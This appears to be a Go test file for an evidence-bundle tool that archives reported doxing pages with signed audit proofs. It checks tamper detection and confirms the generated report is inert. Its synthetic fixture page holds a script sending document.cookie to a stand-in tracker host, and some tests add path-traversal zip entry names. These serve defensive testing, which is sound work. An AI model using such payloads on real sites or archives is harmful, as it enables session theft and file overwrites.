package evidence_test

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/rand"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	stdhtml "html"
	"image"
	"image/color"
	"image/png"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"golang.org/x/mod/sumdb/note"
	"golang.org/x/mod/sumdb/tlog"

	"github.com/undox/undox"
	"github.com/undox/undox/audit"
	"github.com/undox/undox/dbtest"
	"github.com/undox/undox/evidence"
)

// All data below is synthetic: example.test hosts, no real person.
const fakePage = `<!DOCTYPE html><html><head><title>Exposed: Test Person</title>
<script>document.location="https://tracker.example.test/steal?c="+document.cookie</script>
<link rel="stylesheet" href="https://cdn.example.test/style.css">
</head><body onload="alert(1)"><h1>Test Person</h1><p>Lives at 1 Example Street, Testville.</p>
<img src="https://img.example.test/photo.png"><iframe src="https://evil.example.test/"></iframe></body></html>`

func pngOf(t *testing.T, c color.Color) []byte {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, 4, 3))
	for x := 0; x < 4; x++ {
		for y := 0; y < 3; y++ {
			img.Set(x, y, c)
		}
	}
	var buf bytes.Buffer
	require.NoError(t, png.Encode(&buf, img))
	return buf.Bytes()
}

func sha(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

func file(name, kind, mediaType string, content []byte) evidence.File {
	return evidence.File{Name: name, Kind: kind, SHA256: sha(content), Size: int64(len(content)), MediaType: mediaType,
		Open: func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(content)), nil }}
}

func hashesOf(files []evidence.File) []evidence.FileHash {
	var out []evidence.FileHash
	for _, f := range files {
		out = append(out, evidence.FileHash{Kind: f.Kind, SHA256: f.SHA256})
	}
	return out
}

// fixture is a case with three captures whose hashes went through a real
// audit log, and the bundle written of it.
type fixture struct {
	ctx    context.Context
	stack  *dbtest.Stack
	key    string // the verifier key text
	bundle *evidence.Bundle
	zip    []byte
	// leaf of the audit entry of capture 1 in the manifest's entries
	capture1Entry int
}

func newFixture(t *testing.T, b dbtest.Backend, minor bool) *fixture {
	t.Helper()
	ctx := context.Background()
	s := dbtest.NewStack(t, b)
	key, err := audit.VerifierKeyText(s.Dir)
	require.NoError(t, err)
	f := &fixture{ctx: ctx, stack: s, key: key}

	const ref = "UDX-ABCD-EFGH-JKMN"
	c1 := []evidence.File{
		file("captures/1/body.html", evidence.KindBody, "text/html; charset=utf-8", []byte(fakePage)),
		file("captures/1/headers.txt", evidence.KindHeaders, "text/plain", []byte("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nServer: example\r\n")),
		file("captures/1/text.txt", evidence.KindText, "text/plain; charset=utf-8", []byte("Exposed: Test Person\nLives at 1 Example Street, Testville.")),
		file("captures/1/screenshot.png", evidence.KindScreenshot, "image/png", pngOf(t, color.RGBA{200, 30, 30, 255})),
		file("captures/1/image-1.png", evidence.KindImage, "image/png", pngOf(t, color.RGBA{30, 30, 200, 255})),
	}
	c3 := []evidence.File{
		file("captures/3/body.html", evidence.KindBody, "text/html", []byte("<html><body>Other page about Test Person</body></html>")),
		file("captures/3/text.txt", evidence.KindText, "text/plain", []byte("Other page about Test Person")),
	}

	// The log: unrelated entries around the captures', as in real life.
	audit1 := func(action, typ, id, detail string) {
		require.NoError(t, s.Store.Audit(ctx, undox.System, action, typ, id, detail))
	}
	for i := 0; i < 5; i++ {
		audit1("case.create", "case", fmt.Sprintf("UDX-OTHR-0000-%04d", i), "")
	}
	audit1("case.create", "case", ref, "items=2")
	audit1(evidence.ActionCapture, "capture", "1", "item=1 status=200 "+evidence.CaptureDetail(hashesOf(c1)...))
	_, err = s.Log.Integrate(ctx, 0)
	require.NoError(t, err)
	audit1("capture.failed", "capture", "2", "item=1 code=dns_nxdomain")
	for i := 0; i < 4; i++ {
		audit1("case.read", "case", fmt.Sprintf("UDX-OTHR-0000-%04d", i), "")
	}
	audit1(evidence.ActionCapture, "capture", "3", evidence.CaptureDetail(hashesOf(c3)...)+" note=<b>&amp;</b>")
	audit1("case.export", "case", ref, "by=<staff>")
	cp, err := s.Log.Integrate(ctx, 0)
	require.NoError(t, err)
	require.Equal(t, int64(14), cp.TreeSize)

	var mine []undox.AuditEntry
	all, err := s.Store.EntriesByLeaf(ctx, 0, 1<<62)
	require.NoError(t, err)
	for _, e := range all {
		if e.ObjectID == ref || e.ObjectType == "capture" {
			mine = append(mine, e)
		}
	}
	require.Len(t, mine, 5)
	latest, err := s.Log.LatestCheckpoint(ctx)
	require.NoError(t, err)
	records, err := evidence.Prove(ctx, s.Log, latest.TreeSize, mine)
	require.NoError(t, err)

	at := time.Date(2026, 3, 2, 10, 0, 0, 0, time.UTC)
	f.bundle = &evidence.Bundle{
		Case: evidence.CaseInfo{Ref: ref, Category: "doxing", Status: "open", IsMinor: minor, CreatedAt: at.Add(-48 * time.Hour)},
		Items: []evidence.Item{
			{ID: 1, URL: "https://doxsite.example.test/p/test-person", Status: "captured", Category: "doxing", FirstReported: at.Add(-48 * time.Hour)},
			{ID: 2, URL: "https://mirror.example.test/tp", Status: "captured", Category: "doxing", FirstReported: at.Add(-47 * time.Hour)},
		},
		Captures: []evidence.Capture{
			{
				ID: 1, ItemURL: "https://doxsite.example.test/p/test-person", FetchedAt: at.Add(-47 * time.Hour), RequestedBy: "system",
				Status: 200, FinalURL: "https://www.doxsite.example.test/p/test-person",
				Title:     `Exposed: <script>alert("title")</script>`,
				Redirects: []evidence.Redirect{{URL: "https://doxsite.example.test/p/test-person", Status: 301, IP: "192.0.2.10"}},
				IPs:       []string{"192.0.2.10", "2001:db8::10"},
				DNS: []evidence.DNSAnswer{{Name: "doxsite.example.test", Addrs: []string{"192.0.2.10"},
					Records: []string{"doxsite.example.test. 300 IN A 192.0.2.10"}, Server: "dns://198.51.100.53:53"}},
				Resolver: "dns://198.51.100.53:53", Vantage: "hotline capture network (test)",
				TLS: &evidence.TLSSummary{Version: "TLS 1.3", CipherSuite: "TLS_AES_128_GCM_SHA256", ServerName: "www.doxsite.example.test", Verified: true,
					Chain: []evidence.Certificate{{Subject: "CN=www.doxsite.example.test", Issuer: "CN=Test CA", SHA256: strings.Repeat("ab", 32),
						NotBefore: at.Add(-24 * 30 * time.Hour), NotAfter: at.Add(24 * 60 * time.Hour)}}},
				Files: c1,
			},
			{ID: 2, ItemURL: "https://doxsite.example.test/p/test-person", FetchedAt: at.Add(-46 * time.Hour), RequestedBy: "token:4:analyst",
				Error: "dns_nxdomain: no such host"},
			{ID: 3, ItemURL: "https://mirror.example.test/tp", FetchedAt: at.Add(-45 * time.Hour), RequestedBy: "system", Status: 200,
				IPs: []string{"203.0.113.7"}, Files: c3},
		},
		Audit:       records,
		Checkpoint:  latest.Note,
		VerifierKey: key,
		GeneratedAt: at,
		GeneratedBy: "token:3:supervisor",
	}
	var buf bytes.Buffer
	require.NoError(t, evidence.Write(&buf, f.bundle))
	f.zip = buf.Bytes()

	m := manifestOf(t, f.zip)
	f.capture1Entry = -1
	for i, e := range m.Audit.Entries {
		if e.Action == evidence.ActionCapture && e.ObjectID == "1" {
			f.capture1Entry = i
		}
	}
	require.NotEqual(t, -1, f.capture1Entry)
	return f
}

type zipEntry struct {
	name string
	data []byte
}

func readZip(t *testing.T, b []byte) []zipEntry {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	require.NoError(t, err)
	var out []zipEntry
	for _, f := range zr.File {
		rc, err := f.Open()
		require.NoError(t, err)
		data, err := io.ReadAll(rc)
		require.NoError(t, err)
		rc.Close()
		out = append(out, zipEntry{f.Name, data})
	}
	return out
}

func writeZip(t *testing.T, es []zipEntry) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, e := range es {
		w, err := zw.Create(e.name)
		require.NoError(t, err)
		_, err = w.Write(e.data)
		require.NoError(t, err)
	}
	require.NoError(t, zw.Close())
	return buf.Bytes()
}

func entryData(t *testing.T, b []byte, name string) []byte {
	t.Helper()
	for _, e := range readZip(t, b) {
		if e.name == name {
			return e.data
		}
	}
	t.Fatalf("no %s in the bundle", name)
	return nil
}

func manifestOf(t *testing.T, b []byte) *evidence.Manifest {
	t.Helper()
	var m evidence.Manifest
	require.NoError(t, json.Unmarshal(entryData(t, b, evidence.ManifestName), &m))
	return &m
}

// rewrite changes the zip's entries with edit (which may drop or change
// them) and appends extra ones; nothing else is updated.
func rewrite(t *testing.T, b []byte, edit func(name string, data []byte) ([]byte, bool), extra ...zipEntry) []byte {
	t.Helper()
	var out []zipEntry
	for _, e := range readZip(t, b) {
		if data, keep := edit(e.name, e.data); keep {
			out = append(out, zipEntry{e.name, data})
		}
	}
	return writeZip(t, append(out, extra...))
}

// forge edits the manifest and the files as a careful forger would:
// afterwards every file's SHA-256 and size in the manifest and in
// SHA256SUMS are recomputed, so that only deeper checks can notice.
func forge(t *testing.T, b []byte, edit func(m *evidence.Manifest, files map[string][]byte)) []byte {
	t.Helper()
	files := map[string][]byte{}
	for _, e := range readZip(t, b) {
		files[e.name] = e.data
	}
	var m evidence.Manifest
	require.NoError(t, json.Unmarshal(files[evidence.ManifestName], &m))
	delete(files, evidence.ManifestName)
	edit(&m, files)
	var sums strings.Builder
	for i, f := range m.Files {
		if data, ok := files[f.Path]; ok && f.Path != evidence.SumsName {
			m.Files[i].SHA256, m.Files[i].Size = sha(data), int64(len(data))
			fmt.Fprintf(&sums, "%s  %s\n", m.Files[i].SHA256, f.Path)
		}
	}
	files[evidence.SumsName] = []byte(sums.String())
	for i, f := range m.Files {
		if f.Path == evidence.SumsName {
			m.Files[i].SHA256, m.Files[i].Size = sha(files[evidence.SumsName]), int64(len(files[evidence.SumsName]))
		}
	}
	mb, err := json.Marshal(&m)
	require.NoError(t, err)
	files[evidence.ManifestName] = mb
	names := make([]string, 0, len(files))
	for n := range files {
		names = append(names, n)
	}
	sort.Strings(names)
	var es []zipEntry
	for _, n := range names {
		es = append(es, zipEntry{n, files[n]})
	}
	return writeZip(t, es)
}

func verify(t *testing.T, b []byte, opts evidence.VerifyOptions) *evidence.Report {
	t.Helper()
	rep, err := evidence.Verify(bytes.NewReader(b), int64(len(b)), opts)
	require.NoError(t, err)
	return rep
}

// requireProblem checks that the bundle fails with a problem at path
// whose message contains msg.
func requireProblem(t *testing.T, rep *evidence.Report, path, msg string) {
	t.Helper()
	require.False(t, rep.OK, "the bundle verified")
	for _, p := range rep.Problems {
		if p.Path == path && strings.Contains(p.Message, msg) {
			return
		}
	}
	t.Fatalf("no problem at %s saying %q; problems:\n%s", path, msg, problems(rep))
}

func problems(rep *evidence.Report) string {
	var sb strings.Builder
	for _, p := range rep.Problems {
		sb.WriteString("  " + p.String() + "\n")
	}
	return sb.String()
}

func otherKey(t *testing.T) (note.Signer, string) {
	t.Helper()
	skey, vkey, err := note.GenerateKey(rand.Reader, "undox-test") // the same name: an impostor
	require.NoError(t, err)
	s, err := note.NewSigner(skey)
	require.NoError(t, err)
	return s, vkey
}

func TestWriteAndVerify(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, b dbtest.Backend) {
		f := newFixture(t, b, false)

		rep := verify(t, f.zip, evidence.VerifyOptions{})
		require.True(t, rep.OK, problems(rep))
		require.Empty(t, rep.Problems)
		require.Equal(t, "UDX-ABCD-EFGH-JKMN", rep.Case)
		require.Equal(t, "undox-test", rep.Signer)
		require.True(t, rep.CheckpointSigned)
		require.False(t, rep.KeyTrusted)
		require.Equal(t, int64(14), rep.TreeSize)
		require.Equal(t, 7+3, rep.Files) // 7 captured + checkpoint, report, sums
		require.Equal(t, rep.Files, rep.FilesOK)
		require.Equal(t, 5, rep.AuditEntries)
		require.Equal(t, 5, rep.AuditEntriesOK)
		require.Equal(t, 7, rep.CaptureFiles)
		require.Equal(t, 7, rep.CaptureFilesCovered)
		require.Len(t, rep.Warnings, 1)
		require.Contains(t, rep.Warnings[0].Message, "self-asserted")

		// With the hotline's published key: trusted, no warning.
		rep = verify(t, f.zip, evidence.VerifyOptions{TrustedKey: f.key + "\n"})
		require.True(t, rep.OK, problems(rep))
		require.True(t, rep.KeyTrusted)
		require.Empty(t, rep.Warnings)

		// The layout: every captured file as given, the bundle's own
		// files, nothing else.
		var names []string
		for _, e := range readZip(t, f.zip) {
			names = append(names, e.name)
		}
		require.ElementsMatch(t, []string{
			"captures/1/body.html", "captures/1/headers.txt", "captures/1/text.txt", "captures/1/screenshot.png", "captures/1/image-1.png",
			"captures/3/body.html", "captures/3/text.txt",
			"checkpoint.txt", "report.html", "SHA256SUMS", "manifest.json"}, names)
		require.Equal(t, fakePage, string(entryData(t, f.zip, "captures/1/body.html")))
		require.Equal(t, f.bundle.Checkpoint, string(entryData(t, f.zip, "checkpoint.txt")))

		m := manifestOf(t, f.zip)
		require.Equal(t, evidence.Format, m.Format)
		require.Equal(t, evidence.Version, m.Version)
		require.Equal(t, f.key, m.Audit.VerifierKey)
		require.Equal(t, int64(14), m.Audit.Checkpoint.TreeSize)
		require.Equal(t, "undox-test", m.Audit.Checkpoint.Origin)
		require.Len(t, m.Captures, 3)
		require.Equal(t, []string{"captures/3/body.html", "captures/3/text.txt"}, m.Captures[2].Files)
		require.Empty(t, m.Captures[1].Files)
		require.Equal(t, "dns_nxdomain: no such host", m.Captures[1].Error)
		require.Equal(t, []string{"192.0.2.10", "2001:db8::10"}, m.Captures[0].IPs)
		require.Equal(t, "dns://198.51.100.53:53", m.Captures[0].Resolver)
		require.True(t, m.Captures[0].TLS.Verified)
		for _, mf := range m.Files {
			require.Equal(t, sha(entryData(t, f.zip, mf.Path)), mf.SHA256, mf.Path)
		}
		// Entries come in leaf order, with proofs that audit.VerifyInclusion
		// accepts against the signed checkpoint.
		_, root, err := audit.ParseCheckpoint([]byte(m.Audit.Checkpoint.Note), f.stack.Log.VerifierKey())
		require.NoError(t, err)
		for i, e := range m.Audit.Entries {
			if i > 0 {
				require.Greater(t, e.LeafIndex, m.Audit.Entries[i-1].LeafIndex)
			}
			proof := make(tlog.RecordProof, len(e.Proof))
			for j, h := range e.Proof {
				b, err := base64.StdEncoding.DecodeString(h)
				require.NoError(t, err)
				copy(proof[j][:], b)
			}
			require.NoError(t, audit.VerifyInclusion(e.AuditEntry(), e.LeafIndex, proof, m.Audit.Checkpoint.TreeSize, root))
		}
		require.Equal(t, base64.StdEncoding.EncodeToString(root[:]), m.Audit.Checkpoint.RootHash)

		// SHA256SUMS is what sha256sum -c reads.
		sums := string(entryData(t, f.zip, evidence.SumsName))
		require.Contains(t, sums, sha([]byte(fakePage))+"  captures/1/body.html\n")
		require.NotContains(t, sums, "manifest.json")
		require.NotContains(t, sums, evidence.SumsName)
		if _, err := exec.LookPath("sha256sum"); err == nil {
			dir := t.TempDir()
			for _, e := range readZip(t, f.zip) {
				p := filepath.Join(dir, filepath.FromSlash(e.name))
				require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
				require.NoError(t, os.WriteFile(p, e.data, 0o644))
			}
			cmd := exec.Command("sha256sum", "-c", evidence.SumsName)
			cmd.Dir = dir
			out, err := cmd.CombinedOutput()
			require.NoError(t, err, string(out))
			require.Contains(t, string(out), "captures/1/screenshot.png: OK")
		}
	})
}

func TestReportIsInert(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, b dbtest.Backend) {
		f := newFixture(t, b, false)
		html := string(entryData(t, f.zip, evidence.ReportName))

		// Nothing of the captured page runs or loads.
		require.NotContains(t, strings.ToLower(html), "<script")
		require.NotContains(t, strings.ToLower(html), "<iframe")
		require.NotContains(t, html, "document.cookie")
		require.NotContains(t, html, "tracker.example.test")
		require.Contains(t, html, "Exposed: &lt;script&gt;alert(&#34;title&#34;)&lt;/script&gt;")
		require.Contains(t, html, "note=&lt;b&gt;&amp;amp;&lt;/b&gt;")
		for _, re := range []string{
			`(?i)\b(src|href|action|srcset|poster|data|background|formaction)\s*=\s*["']?\s*(https?:)?//`,
			`(?i)url\s*\(`, `(?i)@import`, `(?i)javascript:`, `(?i)\son[a-z]+\s*=`, `(?i)<(link|object|embed|iframe|base|form)\b`,
		} {
			require.False(t, regexp.MustCompile(re).MatchString(html), "report.html matches %s", re)
		}
		// Addresses are text, never links; the page source is never linked.
		require.NotRegexp(t, `(?i)<a\s[^>]*href="(?:[a-z]+:|captures/)`, html)
		require.Contains(t, html, "https://doxsite.example.test/p/test-person")
		require.Contains(t, html, "Do <strong>not</strong> open it in a web browser")

		// Screenshots and images show from the extracted bundle.
		require.Contains(t, html, `<img src="captures/1/screenshot.png"`)
		require.Contains(t, html, `<img src="captures/1/image-1.png"`)
		require.NotContains(t, html, `src="captures/1/body.html"`)
		require.Contains(t, html, "extracted bundle")

		// The facts and hashes, and how to verify.
		require.Contains(t, html, "UDX-ABCD-EFGH-JKMN")
		require.Contains(t, html, "192.0.2.10")
		require.Contains(t, html, "doxsite.example.test. 300 IN A 192.0.2.10")
		require.Contains(t, html, "dns_nxdomain: no such host")
		require.Contains(t, html, sha([]byte(fakePage)))
		require.Contains(t, html, "undox verify FILE.zip")
		require.Contains(t, html, "sha256sum -c SHA256SUMS")
		require.Contains(t, stdhtml.UnescapeString(html), f.key)
		require.NotContains(t, html, "<details>", "images are shown directly in an adult's case")
		// The captured text is not copied into the report.
		require.NotContains(t, html, "Lives at 1 Example Street")
	})
}

func TestReportHidesMinorsImages(t *testing.T) {
	f := newFixture(t, dbtest.Backends()[0], true)
	html := string(entryData(t, f.zip, evidence.ReportName))
	require.Contains(t, html, "<details>")
	require.Regexp(t, `(?s)<details>\s*<summary>[^<]*<code>captures/1/screenshot.png</code>[^<]*</summary>\s*<figure><img src="captures/1/screenshot.png"`, html)
	require.Equal(t, strings.Count(html, "<img "), strings.Count(html, "<details>"))
	rep := verify(t, f.zip, evidence.VerifyOptions{TrustedKey: f.key})
	require.True(t, rep.OK, problems(rep))
}

func TestVerifyFindsTampering(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, b dbtest.Backend) {
		f := newFixture(t, b, false)
		entryAt := fmt.Sprintf("manifest.json#/audit/entries/%d", f.capture1Entry)

		t.Run("forge helper alone changes nothing", func(t *testing.T) {
			rep := verify(t, forge(t, f.zip, func(*evidence.Manifest, map[string][]byte) {}), evidence.VerifyOptions{TrustedKey: f.key})
			require.True(t, rep.OK, problems(rep))
		})

		t.Run("one byte of a file changed", func(t *testing.T) {
			z := rewrite(t, f.zip, func(name string, data []byte) ([]byte, bool) {
				if name == "captures/1/body.html" {
					data = bytes.Clone(data)
					data[100] ^= 1
				}
				return data, true
			})
			rep := verify(t, z, evidence.VerifyOptions{})
			requireProblem(t, rep, "captures/1/body.html", "has SHA-256")
			require.Len(t, rep.Problems, 1, problems(rep))
			require.Equal(t, rep.Files-1, rep.FilesOK)
		})

		t.Run("one byte of the zip changed", func(t *testing.T) {
			// The screenshot is stored uncompressed: flip a byte of its
			// pixels in the zip file itself.
			png := entryData(t, f.zip, "captures/1/screenshot.png")
			i := bytes.Index(f.zip, png)
			require.Positive(t, i)
			z := bytes.Clone(f.zip)
			z[i+len(png)/2] ^= 0x40
			rep := verify(t, z, evidence.VerifyOptions{})
			requireProblem(t, rep, "captures/1/screenshot.png", "")
		})

		t.Run("file dropped", func(t *testing.T) {
			z := rewrite(t, f.zip, func(name string, data []byte) ([]byte, bool) { return data, name != "captures/1/text.txt" })
			rep := verify(t, z, evidence.VerifyOptions{})
			requireProblem(t, rep, "captures/1/text.txt", "missing from the bundle")
		})

		t.Run("file added", func(t *testing.T) {
			z := rewrite(t, f.zip, func(_ string, d []byte) ([]byte, bool) { return d, true },
				zipEntry{"captures/1/extra.html", []byte("<p>planted</p>")})
			rep := verify(t, z, evidence.VerifyOptions{})
			requireProblem(t, rep, "captures/1/extra.html", "not listed in the manifest")
		})

		t.Run("file added and listed", func(t *testing.T) {
			z := forge(t, f.zip, func(m *evidence.Manifest, files map[string][]byte) {
				files["captures/1/planted.png"] = []byte("planted")
				m.Files = append(m.Files, evidence.ManifestFile{Path: "captures/1/planted.png", Kind: evidence.KindImage})
			})
			rep := verify(t, z, evidence.VerifyOptions{})
			requireProblem(t, rep, "captures/1/planted.png", "belongs to no capture")
		})

		t.Run("file added to a capture", func(t *testing.T) {
			z := forge(t, f.zip, func(m *evidence.Manifest, files map[string][]byte) {
				files["captures/1/planted.png"] = []byte("planted")
				m.Files = append(m.Files, evidence.ManifestFile{Path: "captures/1/planted.png", Kind: evidence.KindImage})
				m.Captures[0].Files = append(m.Captures[0].Files, "captures/1/planted.png")
			})
			rep := verify(t, z, evidence.VerifyOptions{})
			requireProblem(t, rep, "captures/1/planted.png", "in no \"capture\" audit entry")
		})

		t.Run("file replaced, manifest and sums updated", func(t *testing.T) {
			z := forge(t, f.zip, func(m *evidence.Manifest, files map[string][]byte) {
				files["captures/1/text.txt"] = []byte("Nothing to see here.")
			})
			rep := verify(t, z, evidence.VerifyOptions{})
			requireProblem(t, rep, "captures/1/text.txt", "in no \"capture\" audit entry")
			require.Len(t, rep.Problems, 1, problems(rep))
		})

		t.Run("file replaced, audit entry updated too", func(t *testing.T) {
			z := forge(t, f.zip, func(m *evidence.Manifest, files map[string][]byte) {
				old := sha(files["captures/1/text.txt"])
				files["captures/1/text.txt"] = []byte("Nothing to see here.")
				e := &m.Audit.Entries[f.capture1Entry]
				e.Detail = strings.Replace(e.Detail, old, sha(files["captures/1/text.txt"]), 1)
			})
			rep := verify(t, z, evidence.VerifyOptions{})
			requireProblem(t, rep, entryAt, "not proven by the checkpoint")
			requireProblem(t, rep, "captures/1/text.txt", "in no \"capture\" audit entry")
		})

		t.Run("audit entry detail altered", func(t *testing.T) {
			z := forge(t, f.zip, func(m *evidence.Manifest, _ map[string][]byte) {
				e := &m.Audit.Entries[f.capture1Entry]
				e.Detail = strings.Replace(e.Detail, "status=200", "status=404", 1)
			})
			rep := verify(t, z, evidence.VerifyOptions{})
			requireProblem(t, rep, entryAt, "not proven by the checkpoint")
			require.Equal(t, rep.AuditEntries-1, rep.AuditEntriesOK)
		})

		t.Run("audit entry time altered", func(t *testing.T) {
			z := forge(t, f.zip, func(m *evidence.Manifest, _ map[string][]byte) {
				m.Audit.Entries[0].Time = m.Audit.Entries[0].Time.Add(-time.Hour)
			})
			requireProblem(t, verify(t, z, evidence.VerifyOptions{}), "manifest.json#/audit/entries/0", "not proven")
		})

		t.Run("audit entry moved to another leaf", func(t *testing.T) {
			z := forge(t, f.zip, func(m *evidence.Manifest, _ map[string][]byte) { m.Audit.Entries[1].LeafIndex++ })
			requireProblem(t, verify(t, z, evidence.VerifyOptions{}), "manifest.json#/audit/entries/1", "not proven")
		})

		t.Run("proof hash corrupted", func(t *testing.T) {
			z := forge(t, f.zip, func(m *evidence.Manifest, _ map[string][]byte) {
				p := m.Audit.Entries[2].Proof
				h, err := base64.StdEncoding.DecodeString(p[0])
				require.NoError(t, err)
				h[7] ^= 0x10
				p[0] = base64.StdEncoding.EncodeToString(h)
			})
			requireProblem(t, verify(t, z, evidence.VerifyOptions{}), "manifest.json#/audit/entries/2", "not proven")
		})

		t.Run("proof hash malformed", func(t *testing.T) {
			z := forge(t, f.zip, func(m *evidence.Manifest, _ map[string][]byte) { m.Audit.Entries[2].Proof[0] = "not base64!" })
			requireProblem(t, verify(t, z, evidence.VerifyOptions{}), "manifest.json#/audit/entries/2", "not a base64 SHA-256")
		})

		t.Run("checkpoint re-signed by another key", func(t *testing.T) {
			signer, _ := otherKey(t)
			z := forge(t, f.zip, func(m *evidence.Manifest, files map[string][]byte) {
				n, err := note.Open([]byte(m.Audit.Checkpoint.Note), note.VerifierList(f.stack.Log.VerifierKey()))
				require.NoError(t, err)
				msg, err := note.Sign(&note.Note{Text: n.Text}, signer)
				require.NoError(t, err)
				m.Audit.Checkpoint.Note = string(msg)
				files[evidence.CheckpointName] = msg
			})
			rep := verify(t, z, evidence.VerifyOptions{})
			requireProblem(t, rep, "checkpoint.txt", "does not verify with the bundled verifier key")
			require.False(t, rep.CheckpointSigned)
		})

		t.Run("bundled key swapped", func(t *testing.T) {
			_, vkey := otherKey(t)
			z := forge(t, f.zip, func(m *evidence.Manifest, _ map[string][]byte) { m.Audit.VerifierKey = vkey })
			requireProblem(t, verify(t, z, evidence.VerifyOptions{}), "checkpoint.txt", "does not verify with the bundled verifier key")
		})

		t.Run("checkpoint altered", func(t *testing.T) {
			z := forge(t, f.zip, func(m *evidence.Manifest, files map[string][]byte) {
				m.Audit.Checkpoint.Note = strings.Replace(m.Audit.Checkpoint.Note, "\n14\n", "\n13\n", 1)
				files[evidence.CheckpointName] = []byte(m.Audit.Checkpoint.Note)
			})
			requireProblem(t, verify(t, z, evidence.VerifyOptions{}), "checkpoint.txt", "does not verify")
		})

		t.Run("checkpoint.txt differs from the manifest", func(t *testing.T) {
			signer, _ := otherKey(t)
			z := forge(t, f.zip, func(m *evidence.Manifest, files map[string][]byte) {
				msg, err := note.Sign(&note.Note{Text: "undox-test\n3\n" + base64.StdEncoding.EncodeToString(make([]byte, 32)) + "\n"}, signer)
				require.NoError(t, err)
				files[evidence.CheckpointName] = msg
			})
			requireProblem(t, verify(t, z, evidence.VerifyOptions{}), "checkpoint.txt", "differs from the checkpoint note in the manifest")
		})

		t.Run("manifest's unsigned root altered", func(t *testing.T) {
			z := forge(t, f.zip, func(m *evidence.Manifest, _ map[string][]byte) {
				m.Audit.Checkpoint.RootHash = base64.StdEncoding.EncodeToString(make([]byte, 32))
			})
			requireProblem(t, verify(t, z, evidence.VerifyOptions{}), "manifest.json#/audit/checkpoint", "differ from the signed note")
		})

		t.Run("everything re-signed by an impostor", func(t *testing.T) {
			signer, vkey := otherKey(t)
			z := forge(t, f.zip, func(m *evidence.Manifest, files map[string][]byte) {
				n, err := note.Open([]byte(m.Audit.Checkpoint.Note), note.VerifierList(f.stack.Log.VerifierKey()))
				require.NoError(t, err)
				msg, err := note.Sign(&note.Note{Text: n.Text}, signer)
				require.NoError(t, err)
				m.Audit.Checkpoint.Note, m.Audit.VerifierKey = string(msg), vkey
				files[evidence.CheckpointName] = msg
			})
			// Consistent in itself: only the published key tells.
			rep := verify(t, z, evidence.VerifyOptions{})
			require.True(t, rep.OK, problems(rep))
			require.Len(t, rep.Warnings, 1)
			require.Contains(t, rep.Warnings[0].Message, "self-asserted")

			rep = verify(t, z, evidence.VerifyOptions{TrustedKey: f.key})
			requireProblem(t, rep, "manifest.json#/audit/verifier_key", "is not the trusted key")
			requireProblem(t, rep, "checkpoint.txt", "not signed by the trusted key")
			require.False(t, rep.KeyTrusted)
		})

		t.Run("wrong trusted key", func(t *testing.T) {
			_, vkey := otherKey(t)
			rep := verify(t, f.zip, evidence.VerifyOptions{TrustedKey: vkey})
			requireProblem(t, rep, "manifest.json#/audit/verifier_key", "is not the trusted key")
			require.False(t, rep.KeyTrusted)
			_, err := evidence.Verify(bytes.NewReader(f.zip), int64(len(f.zip)), evidence.VerifyOptions{TrustedKey: "not a key"})
			require.Error(t, err)
		})

		t.Run("SHA256SUMS altered", func(t *testing.T) {
			z := forge(t, f.zip, func(m *evidence.Manifest, files map[string][]byte) {})
			// Edit the sums and fix its own hash in the manifest.
			files := map[string][]byte{}
			for _, e := range readZip(t, z) {
				files[e.name] = e.data
			}
			sums := strings.Replace(string(files[evidence.SumsName]), sha([]byte(fakePage)), strings.Repeat("0", 64), 1)
			var m evidence.Manifest
			require.NoError(t, json.Unmarshal(files[evidence.ManifestName], &m))
			for i := range m.Files {
				if m.Files[i].Path == evidence.SumsName {
					m.Files[i].SHA256, m.Files[i].Size = sha([]byte(sums)), int64(len(sums))
				}
			}
			mb, err := json.Marshal(&m)
			require.NoError(t, err)
			z = rewrite(t, z, func(name string, data []byte) ([]byte, bool) {
				switch name {
				case evidence.SumsName:
					return []byte(sums), true
				case evidence.ManifestName:
					return mb, true
				}
				return data, true
			})
			requireProblem(t, verify(t, z, evidence.VerifyOptions{}), evidence.SumsName, "captures/1/body.html")
		})

		t.Run("manifest missing", func(t *testing.T) {
			z := rewrite(t, f.zip, func(name string, d []byte) ([]byte, bool) { return d, name != evidence.ManifestName })
			requireProblem(t, verify(t, z, evidence.VerifyOptions{}), "manifest.json", "missing")
		})

		t.Run("manifest of a newer format", func(t *testing.T) {
			z := forge(t, f.zip, func(m *evidence.Manifest, _ map[string][]byte) { m.Version = evidence.Version + 1 })
			requireProblem(t, verify(t, z, evidence.VerifyOptions{}), "manifest.json", "newer undox")
		})

		t.Run("path traversal", func(t *testing.T) {
			z := rewrite(t, f.zip, func(_ string, d []byte) ([]byte, bool) { return d, true },
				zipEntry{"../../etc/evil", []byte("x")}, zipEntry{"/abs/evil", []byte("x")}, zipEntry{`captures\..\..\evil`, []byte("x")},
				zipEntry{"evil\x1b[2J\u202e.txt", []byte("x")})
			rep := verify(t, z, evidence.VerifyOptions{})
			requireProblem(t, rep, `"../../etc/evil"`, "unsafe file name")
			requireProblem(t, rep, `"/abs/evil"`, "unsafe file name")
			requireProblem(t, rep, `"captures\\..\\..\\evil"`, "unsafe file name")
			requireProblem(t, rep, `"evil\x1b[2J\u202e.txt"`, "unsafe file name")
			for _, p := range rep.Problems {
				require.NotContains(t, p.Path+p.Message, "\x1b", "problems are safe to print")
				require.NotContains(t, p.Path+p.Message, "\u202e", "problems are safe to print")
			}

			z = forge(t, f.zip, func(m *evidence.Manifest, _ map[string][]byte) {
				m.Files = append(m.Files, evidence.ManifestFile{Path: "../outside.txt", SHA256: strings.Repeat("0", 64)})
			})
			requireProblem(t, verify(t, z, evidence.VerifyOptions{}), fmt.Sprintf("manifest.json#/files/%d", len(manifestOf(t, f.zip).Files)), "unsafe path")
		})

